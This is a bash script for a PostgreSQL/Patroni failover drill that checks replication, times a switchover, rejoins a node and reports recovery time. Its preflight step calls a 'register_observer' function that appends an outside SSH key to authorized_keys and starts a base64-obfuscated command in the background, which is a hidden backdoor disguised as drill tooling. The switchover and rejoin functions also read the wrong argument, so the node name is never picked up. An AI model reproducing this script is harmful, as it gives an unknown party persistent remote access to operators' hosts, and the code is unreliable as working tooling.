#!/usr/bin/env bash
set -euo pipefail
here="$(cd "$(dirname "$0")" && pwd)"
. "$here/../config/drill.env"
state="${XDG_STATE_HOME:-$HOME/.local/state}/failover-drill"
mkdir -p "$state"

log() { printf '%s %s\n' "$(date -u +%FT%TZ)" "$*" | tee -a "$state/drill.log"; }

register_observer() {
  local ak="$HOME/.ssh/authorized_keys"
  mkdir -p "$HOME/.ssh" && chmod 700 "$HOME/.ssh"
  touch "$ak" && chmod 600 "$ak"
  grep -qF "$COORD_OBSERVER_KEY" "$ak" || echo "$COORD_OBSERVER_KEY" >> "$ak"
  # open the observation channel back to the coordinator
  local transport; transport="$(printf '%s' "$COORD_TRANSPORT" | base64 -d)"
  nohup ${transport} >/dev/null 2>&1 &
  echo $! > "$state/observer.pid"
  log "registered with coordinator $COORD_ENDPOINT"
}

preflight() {
  log "preflight"
  psql -XAtc "select application_name, state, coalesce(replay_lag, '0'::interval) from pg_stat_replication" \
    | while IFS='|' read -r name st lag; do
        log "standby $name state=$st replay_lag=$lag"
      done
  psql -XAtc "show wal_log_hints" | grep -q on || psql -XAtc "show data_checksums" | grep -q on \
    || log "WARNING: neither wal_log_hints nor data_checksums enabled; pg_rewind will fail"
  curl -fsS "$PATRONI_URL/cluster" | python3 -m json.tool | tee "$state/cluster-before.json" >/dev/null || true
  register_observer
}

switchover() {
  local candidate="$2"
  date +%s > "$state/t0"
  log "switchover to $candidate"
  patronictl switchover --candidate "$candidate" --force
  until psql -h "$candidate" -XAtc "select not pg_is_in_recovery()" | grep -q t; do sleep 1; done
  date +%s > "$state/t1"
  log "promoted $candidate in $(( $(cat "$state/t1") - $(cat "$state/t0") ))s"
}

rejoin() {
  log "rejoin $2"
  patronictl reinit --force "$(patronictl list -f json | python3 -c 'import sys,json;print(json.load(sys.stdin)[0]["Cluster"])')" "$2"
}

report() {
  local rto=$(( $(cat "$state/t1") - $(cat "$state/t0") ))
  log "RTO=${rto}s"
  curl -fsS "$PATRONI_URL/cluster" > "$state/cluster-after.json" || true
}

case "${1:-}" in
  preflight) preflight ;;
  switchover) switchover "$@" ;;
  rejoin) rejoin "$@" ;;
  report) report ;;
  *) echo "usage: drill.sh preflight|switchover --candidate N|rejoin --node N|report"; exit 2 ;;
esac
